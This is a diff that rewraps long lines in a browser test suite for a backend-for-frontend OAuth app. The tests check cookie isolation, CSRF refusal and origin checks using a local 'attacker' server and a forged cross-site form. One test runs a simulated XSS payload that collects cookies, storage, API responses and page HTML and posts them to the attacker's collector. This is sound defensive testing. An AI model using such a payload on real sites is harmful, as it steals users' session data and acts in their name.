@@ -47,7 +47,8 @@ def servers() -> Iterator[dict[str, Any]]:
     clock = CourseClock()
     with LiveServer(oauth.create_app(clock=clock), name="bffb-provider") as provider:
         app = bff.create_app(provider_url=provider.url, clock=clock)
-        with LiveServer(app, name="bffb") as live, LiveServer(attacker_app(), name="bffb-attacker") as evil:
+        with (LiveServer(app, name="bffb") as live,
+              LiveServer(attacker_app(), name="bffb-attacker") as evil):
             yield {"bff": live.url, "provider": provider.url, "store": app.extensions["bff_store"],
                    "evil_port": evil.port, "stolen": evil.app.config["stolen"]}
 
@@ -61,7 +62,8 @@ def attacker_app() -> Flask:
     def form() -> Response:  # a form that posts to the BFF as a plain HTML form can
         target = request.args["target"]
         return Response(f'<form method="post" action="{target}" enctype="text/plain">'
-                        f'<input name="text" value="forged"><button id="go">win</button></form>', mimetype="text/html")
+                        f'<input name="text" value="forged"><button id="go">win</button></form>',
+                        mimetype="text/html")
 
     @app.get("/page")
     def page() -> Response:
@@ -85,7 +87,8 @@ def context(browser: Any) -> Iterator[Any]:
 
 @pytest.fixture(scope="module")
 def alice(browser: Any, servers: dict) -> Iterator[Any]:
-    """One signed-in context shared by the tests that only use the session (a sign-in costs ~1 s)."""
+    """One signed-in context shared by the tests that only use the session (a sign-in costs
+    ~1 s)."""
     context = browser.new_context()
     context.set_default_timeout(TIMEOUT_MS)
     sign_in(context.new_page(), servers["bff"])
@@ -117,7 +120,8 @@ def sign_in(page: Any, url: str, username: str = "alice", password: str = "wonde
     page.locator("#status", has_text="Signed in as").wait_for()
 
 
-def in_page_fetch(page: Any, path: str, method: str = "GET", headers: dict | None = None, body: Any = None) -> dict:
+def in_page_fetch(page: Any, path: str, method: str = "GET", headers: dict | None = None,
+                  body: Any = None) -> dict:
     return page.evaluate("""async ([path, method, headers, body]) => {
         try {
           const r = await fetch(path, {method, headers, credentials: "include",
@@ -128,13 +132,15 @@ def in_page_fetch(page: Any, path: str, method: str = "GET", headers: dict | Non
 
 
 def held_tokens(store: Any) -> list[str]:
-    return [t for tokens in store.all_tokens() for t in (tokens.access_token, tokens.refresh_token, tokens.id_token) if t]
+    return [t for tokens in store.all_tokens()
+            for t in (tokens.access_token, tokens.refresh_token, tokens.id_token) if t]
 
 
 def test_sign_in_sets_one_host_cookie_the_page_cannot_read(context: Any, servers: dict) -> None:
     page = context.new_page()
     bodies: list[str] = []
-    page.on("response", lambda r: bodies.append(r.text()) if r.status < 300 or r.status >= 400 else None)
+    page.on("response",
+            lambda r: bodies.append(r.text()) if r.status < 300 or r.status >= 400 else None)
     sign_in(page, servers["bff"])
     assert page.inner_text("#status") == "Signed in as alice."
     assert page.evaluate("window.isSecureContext") is True  # http://127.0.0.1 is a secure context
@@ -147,7 +153,8 @@ def test_sign_in_sets_one_host_cookie_the_page_cannot_read(context: Any, servers
     assert page.evaluate("document.cookie") == ""
     assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
     me = in_page_fetch(page, "/api/me")
-    assert me["status"] == 200 and json.loads(me["text"]) == {"sub": "alice", "preferred_username": "alice"}
+    assert me["status"] == 200 and json.loads(me["text"]) == {"sub": "alice",
+                                                              "preferred_username": "alice"}
     tokens = held_tokens(servers["store"])
     assert len(tokens) >= 3 and bodies
     everything = "\n".join([*bodies, me["text"], page.content()])
@@ -160,9 +167,11 @@ def test_the_api_and_its_csrf_rule_in_the_browser(page: Any, servers: dict) -> N
     page.click("#note-form button")
     page.wait_for_selector("#notes li")
     assert page.inner_text("#notes li") == "from the page"
-    ok = in_page_fetch(page, "/api/notes", "POST", {"Content-Type": "application/json", "X-CSRF": "1"}, {"text": "x"})
+    ok = in_page_fetch(page, "/api/notes", "POST",
+                       {"Content-Type": "application/json", "X-CSRF": "1"}, {"text": "x"})
     assert ok["status"] == 201
-    missing = in_page_fetch(page, "/api/notes", "POST", {"Content-Type": "application/json"}, {"text": "x"})
+    missing = in_page_fetch(page, "/api/notes", "POST", {"Content-Type": "application/json"},
+                            {"text": "x"})
     assert missing["status"] == 403 and json.loads(missing["text"])["error"] == "csrf_refused"
 
 
@@ -172,17 +181,22 @@ def test_another_origins_script_cannot_call_the_api(page: Any, servers: dict, ho
     before = len(servers["store"].notes("alice"))
     page.goto(f"http://{host}:{servers['evil_port']}/page")
     with_header = in_page_fetch(page, servers["bff"] + "/api/notes", "POST",
-                                {"Content-Type": "application/json", "X-CSRF": "1"}, {"text": "forged"})
-    assert with_header["status"] == 0 and "Failed to fetch" in with_header["text"]  # the preflight got no grant
+                                {"Content-Type": "application/json", "X-CSRF": "1"},
+                                {"text": "forged"})
+    # the preflight got no grant
+    assert with_header["status"] == 0 and "Failed to fetch" in with_header["text"]
     page.goto(f"http://{host}:{servers['evil_port']}/form?target={servers['bff']}/api/notes")
     page.click("#go")
     page.wait_for_load_state()
-    assert json.loads(page.inner_text("body"))["error"] == "csrf_refused"  # a form cannot send X-CSRF
+    # a form cannot send X-CSRF
+    assert json.loads(page.inner_text("body"))["error"] == "csrf_refused"
     assert len(servers["store"].notes("alice")) == before
 
 
-def test_a_same_site_form_carries_the_cookie_and_the_origin_check_still_refuses(page: Any, servers: dict) -> None:
-    """SameSite=Lax lets a sibling port's POST carry the cookie (same site); the BFF's rule does not."""
+def test_a_same_site_form_carries_the_cookie_and_the_origin_check_still_refuses(
+        page: Any, servers: dict) -> None:
+    """SameSite=Lax lets a sibling port's POST carry the cookie (same site); the BFF's rule does
+    not."""
     seen: list[dict] = []
     page.on("request", lambda r: seen.append(r.headers) if r.url.endswith("/api/notes") else None)
     page.goto(f"http://127.0.0.1:{servers['evil_port']}/form?target={servers['bff']}/api/notes")
@@ -200,14 +214,19 @@ def test_an_injected_script_gains_no_token_but_can_act(page: Any, servers: dict)
     servers["stolen"].clear()
     # what an XSS payload would run in the page (page.evaluate runs it in the page's own world)
     result = page.evaluate("""async (collector) => {
-        const loot = {cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage},
-                      me: await (await fetch("/api/me")).text(), notes: await (await fetch("/api/notes")).text(),
+        const loot = {cookie: document.cookie, local: {...localStorage},
+                      session: {...sessionStorage},
+                      me: await (await fetch("/api/me")).text(),
+                      notes: await (await fetch("/api/notes")).text(),
                       html: document.documentElement.outerHTML};
         let sent = true;
-        try { await fetch(collector, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)}); }
+        try {
+          await fetch(collector, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)});
+        }
         catch (e) { sent = false; }
-        const r = await fetch("/api/notes", {method: "POST", body: JSON.stringify({text: "written by the XSS"}),
-                                             headers: {"Content-Type": "application/json", "X-CSRF": "1"}});
+        const r = await fetch("/api/notes", {
+          method: "POST", body: JSON.stringify({text: "written by the XSS"}),
+          headers: {"Content-Type": "application/json", "X-CSRF": "1"}});
         return {loot: JSON.stringify(loot), sent, created: r.status};
       }""", collector)
     loot = json.loads(result["loot"])
